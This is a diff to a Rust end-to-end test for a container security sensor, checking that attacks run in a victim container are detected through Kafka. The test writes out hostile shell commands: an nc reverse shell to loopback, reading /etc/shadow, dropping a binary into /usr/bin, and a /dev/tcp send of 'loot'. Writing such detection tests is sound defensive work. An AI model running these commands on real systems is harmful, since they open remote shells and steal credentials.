@@ -1,5 +1,8 @@
 //! The whole path: an attack in a real container, seen by the sensor, through a real Kafka, matched by the shipped
 //! detections, and read from the topic by a program that is not ours.
+//!
+//! Programs are named by their paths: this busybox's shell runs its own applets through `/proc/self/exe` otherwise, and
+//! the kernel then calls them `exe`.
 
 use std::fs;
 use std::path::Path;
@@ -70,7 +73,9 @@ impl Fleet {
         let fits = |alert: &Message| {
             alert.text("detection_id") == detection
                 && alert.text("container_full_id") == container.id
-                && alert.value["evidence"].to_string().contains(mention)
+                && alert.value["evidence"][0]["row"]
+                    .as_str()
+                    .is_some_and(|row| row.contains(mention))
         };
         let found = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
             self.alerts.wait_for(&what, PATIENCE, fits)
@@ -118,9 +123,10 @@ fn every_attack_is_found_and_near_misses_stay_silent() {
     );
 
     // A shell on a socket: the victim calls its attacker, here on its own loopback device.
-    victim.shell("nc -l -p 4444 </dev/null & sleep 1; nc 127.0.0.1 4444 -e sh; true");
+    victim
+        .shell("/bin/nc -l -p 4444 </dev/null & sleep 1; /bin/nc 127.0.0.1 4444 -e /bin/sh; true");
     let alert = fleet.alert("shell_on_socket", &victim, "127.0.0.1:4444");
-    assert_process(&alert, "exec", "sh", "/bin/busybox", "sh");
+    assert_process(&alert, "exec", "sh", "/bin/busybox", "/bin/sh");
     let event = evidence(&alert);
     assert_eq!(
         (
@@ -130,24 +136,30 @@ fn every_attack_is_found_and_near_misses_stay_silent() {
         (Some("ipv4"), Some("ipv4"))
     );
 
-    victim.shell("cat /etc/shadow");
+    victim.shell("/bin/cat /etc/shadow; true");
     let alert = fleet.alert("sensitive_file_read", &victim, "/etc/shadow");
-    assert_process(&alert, "exec", "cat", "/bin/busybox", "cat /etc/shadow");
+    assert_process(
+        &alert,
+        "exec",
+        "cat",
+        "/bin/busybox",
+        "/bin/cat /etc/shadow",
+    );
     assert_file(&alert, "/etc/shadow");
     assert_eq!(alert.value["ancestors"][0]["name"], "sh");
     assert_eq!(
         alert.value["ancestors"][0]["cmdline"],
-        "/bin/sh -c cat /etc/shadow"
+        "/bin/sh -c /bin/cat /etc/shadow; true"
     );
 
-    victim.shell("cd /usr/bin && cp /bin/busybox ./dropped");
+    victim.shell("cd /usr/bin && /bin/cp /bin/busybox ./dropped");
     let alert = fleet.alert("write_below_binary_folder", &victim, "/usr/bin/dropped");
     assert_process(
         &alert,
         "exec",
         "cp",
         "/bin/busybox",
-        "cp /bin/busybox ./dropped",
+        "/bin/cp /bin/busybox ./dropped",
     );
     assert_file(&alert, "/usr/bin/dropped");
 
@@ -171,7 +183,7 @@ fn every_attack_is_found_and_near_misses_stay_silent() {
     );
 
     victim.shell(
-        "nc -l -p 4445 </dev/null & sleep 1; bash -c 'echo loot >/dev/tcp/127.0.0.1/4445'; true",
+        "nc -l -p 4445 </dev/null & sleep 1; /usr/bin/bash -c 'echo loot >/dev/tcp/127.0.0.1/4445'; true",
     );
     let alert = fleet.alert("connection_from_shell", &victim, "4445");
     assert_eq!(alert.value["process"]["name"], "bash");
@@ -193,9 +205,8 @@ fn every_attack_is_found_and_near_misses_stay_silent() {
 
     escape(&mut fleet);
 
-    // As nobody the same read fails: that is an attempt, not a read, and is said of another user.
     // The last word: everything before it on this host has been matched when it is there.
-    quiet.shell("cat /etc/shadow");
+    quiet.shell("/bin/cat /etc/shadow; true");
     fleet.alert("sensitive_file_read", &quiet, "/etc/shadow");
     let wrong: Vec<_> = fleet
         .alerts
@@ -333,7 +344,7 @@ fn run_exec_and_healthcheck_are_told_apart() {
         event.text("evt_type") == "running" && event.text("container_full_id") == container.id
     };
     let event = events.wait_for("the running container", PATIENCE, |event| {
-        running(event) && event.text("proc_cmdline").starts_with("sh -c")
+        running(event) && event.value["proc_vpid"] == 1
     });
     assert_eq!(event.text("proc_stage"), "entrypoint");
     container.exec(&[], &["sh", "-c", "/bin/echo once more; true"]);
